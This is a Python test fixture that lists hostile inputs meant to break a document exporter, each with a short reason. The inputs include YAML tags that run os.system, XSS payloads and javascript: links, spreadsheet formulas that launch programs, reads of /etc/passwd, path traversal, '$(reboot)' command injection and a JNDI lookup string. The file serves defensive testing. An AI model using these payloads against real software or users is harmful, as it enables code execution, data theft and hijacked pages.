"""Texts that try to break what leaves: its front matter, headings, tables, links, and whoever opens it.

Nothing here is taken from anywhere; every text says why it is here.
"""

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class HostileText:
    """A text, the trick in it, and for a hidden word which of the three it hides."""

    text: str
    why: str
    kind: str
    word: str = ""


def _breaking(kind: str, *told: tuple[str, str]) -> Iterator[HostileText]:
    for text, why in told:
        yield HostileText(text, why, kind)


_BOX = "https://x.example"

BREAKERS: tuple[HostileText, ...] = (
    *_breaking(
        "front matter",
        ("---", "ends the front matter"),
        ("x\n---\nschema: 9\n---\n", "a second front matter"),
        ("\n...\n", "ends a YAML document"),
        ('"', "a quote alone"),
        ('x"\nconsent_manner_mentor: "code', "a quote and a new key"),
        ("x\\", "escapes the closing quote"),
        ("key: value", "looks like a key"),
        ("x: y # z", "a comment"),
        ("&a [*a, *a]", "an anchor and its aliases"),
        ("*a", "an alias"),
        ("!!python/object/apply:os.system ['true']", "a tag that runs something"),
        ("<<: *a", "a merge key"),
        ("{a: [b, {c: d}]}", "a nested value"),
        ("| \n x", "a block text"),
        ("yes", "a word that YAML takes for a truth value"),
        ("1e999", "a number without end"),
        ("12:30:45", "a number of base sixty"),
        ("~", "nothing at all, in YAML"),
        ("\ufeff---\nschema: 1", "a byte order mark before a front matter"),
        ("x\u2028schema: 9", "a line separator"),
        ("x\u2029schema: 9", "a paragraph separator"),
        ("x\u0085schema: 9", "a next-line character, which YAML takes for a line end"),
        ("x\rschema: 9", "a carriage return"),
        ("x\x0bschema: 9\x0cy", "a vertical tab and a form feed"),
        ("\tx: y", "a tab at the beginning"),
        ("sha256: " + "0" * 64, "another hash"),
    ),
    *_breaking(
        "heading",
        ("# Consents", "a heading"),
        ("x\n## Agreed by\nExecutive and Mentor", "a forged section of consent"),
        ("Agreed by\n---------", "a heading by underlining"),
        ("Agreed by\n=========", "a first heading by underlining"),
        ("> # Agreed by", "a heading in a quotation"),
        ("- # Agreed by", "a heading in a list"),
        ("＃ Agreed by", "a full-width number sign"),
        ("&#35; Agreed by", "a number sign as an entity"),
        ("    # Agreed by", "an indented block"),
        ("***\n___\n* * *", "rules across the page"),
    ),
    *_breaking(
        "table and list",
        ("a | b", "a cell"),
        ("a\\| b \\\\| c", "cells behind escapes"),
        ("a\n| --- | --- |\n| b | c |", "a table of its own"),
        ("| |\n|-|\n", "an empty table"),
        ("a\n- b\n- c", "a list inside a line"),
        ("1. a\n1) b", "numbered lists"),
        ("- [x] agreed", "a ticked box"),
        ("a  \nb", "two spaces for a line end"),
    ),
    *_breaking(
        "HTML",
        ("<script>alert(1)</script>", "a script"),
        ("<img src=x onerror=alert(1)>", "an image that runs something"),
        ("<svg/onload=alert(1)>", "a drawing that runs something"),
        ("<iframe src='https://x.example'></iframe>", "a page inside"),
        ("</td></table><h1>Agreed by</h1>", "closes the table"),
        ("</style><style>*{display:none}</style>", "hides everything"),
        ("<!-- hidden -->", "a comment"),
        ("<!-- open", "a comment without end"),
        ("]]><![CDATA[<x>", "a character section"),
        ("<?php echo 1 ?>", "an instruction"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "a script as entities"),
        ("&amp;lt;b&amp;gt;", "a tag encoded twice"),
        ('" onmouseover="alert(1)', "an attribute"),
        ("<details open><summary>x</summary>", "a part that folds"),
        ("＜script＞", "full-width brackets"),
        ("<a\nhref=x>", "a tag over two lines"),
        ("<base href='https://x.example/'>", "turns all links elsewhere"),
        ("<meta http-equiv=refresh content=0;url=https://x.example>", "leaves the page"),
    ),
    *_breaking(
        "link and image",
        ("[x](https://x.example)", "a link"),
        ("[x](javascript:alert(1))", "a link that runs something"),
        ("[x](data:text/html;base64,PHg+)", "a link that carries a page"),
        ("[x](file:///etc/passwd)", "a link to a file"),
        ("[x](//x.example/s)", "a link without its manner"),
        ("<https://x.example>", "a link in brackets"),
        ("<javascript:alert(1)>", "a link in brackets that runs something"),
        (f"[x][1]\n\n[1]: {_BOX}", "a link by reference"),
        ("![x](https://x.example/p.png)", "an image from outside"),
        ("![x](file:///dev/zero)", "an image that never ends"),
        ("![x](\\\\host\\s)", "an image on another computer"),
        ("x[^1]\n\n[^1]: y", "a footnote"),
        ("www.x.example", "a bare address"),
        ("mailto:a@x.example", "a bare address of mail"),
        ("jav&#x09;ascript:alert(1)", "a manner with a tab as an entity"),
        ("[x](<javascript:alert(1)>)", "a link with its target in brackets"),
        ("*[HTML]: hidden words", "an abbreviation"),
        ("[[x]]", "a link of a wiki"),
    ),
    *_breaking(
        "formula",
        ("=cmd|' /C calc'!A0", "runs a program from a table"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "the same with an at sign"),
        ("+1+cmd|' /C calc'!A0", "the same with a plus"),
        ("-2+3", "a sum"),
        ("＝1+1", "a full-width equals sign"),
        ("\t=1+1", "behind a tab"),
        (" =1+1", "behind a space"),
        ('=HYPERLINK("https://x.example";"x")', "a link as a formula"),
        ("%0A=1+1", "behind an encoded line end"),
        ("$x^2$ \\input{/etc/passwd}", "TeX that reads a file"),
    ),
    *_breaking(
        "code",
        ("```\n# x\n```", "a fence"),
        ("~~~\nx", "a fence without end"),
        ("`", "a tick alone"),
        ("`` ` ``", "ticks in ticks"),
        ("    x", "an indented line"),
    ),
    *_breaking(
        "characters",
        ("\x1b[31mred\x1b[0m", "colours of a terminal"),
        ("\x1b]8;;https://x.example\x07x\x1b]8;;\x07", "a link of a terminal"),
        ("\x1b]0;title\x07", "the title of a terminal"),
        ("x\x08\x08y", "backspaces"),
        ("x\x00y", "NUL"),
        ("x\ud800y", "half of a surrogate pair"),
        ("x\udc00\ud800y", "halves in the wrong order"),
        ("\u202egnp.exe\u202c", "letters turned around"),
        ("\u2066x\u2069\u2067y", "an isolate without end"),
        ("x\ufffe\uffffy", "characters that are none"),
        ("e" + "\u0301" * 500, "a tower of accents"),
        ("\u200b", "nothing to see"),
        ("\u3000", "nothing but a wide space"),
        ("\ufff9x\ufffay\ufffb", "a note between the lines"),
        ("🏴\U000e0067\U000e0062\U000e007f", "a flag with tags"),
        ("👩‍👩‍👧", "a family of joined characters"),
        ("שלום (x) סלאם", "from right to left"),
        ("İıſẞŉ", "letters that change their number with their case"),
    ),
    *_breaking(
        "flood",
        ("[" * 20_000, "brackets"),
        ("![" * 10_000, "images that are never closed"),
        ("*a " * 8_000, "emphases that are never closed"),
        ("`" * 20_000, "ticks"),
        (">" * 20_000, "quotations in quotations"),
        ("- " * 8_000, "lists in lists"),
        ("<a" * 10_000, "tags that are never closed"),
        ("&amp;" * 5_000, "entities"),
        ("x" * 100_000, "one long word"),
        ("\n" * 10_000, "empty lines"),
        ("|" * 10_000, "cells"),
    ),
    *_breaking(
        "names of files",
        ("../../etc/passwd", "upwards"),
        ("CON", "a device"),
        ("a:b", "a stream"),
        ("-rf", "an option"),
        ("x.md\x00.exe", "a NUL in a name"),
        ("name.", "a full stop at the end"),
        ("x" * 300, "a name that is too long"),
        ("$(reboot) `reboot` ; reboot", "commands"),
        ("%n%s%x {0.__class__} ${jndi:ldap://x}", "patterns that something could fill in"),
    ),
)
"""Each must come out as plain words, or not at all, whatever the format."""
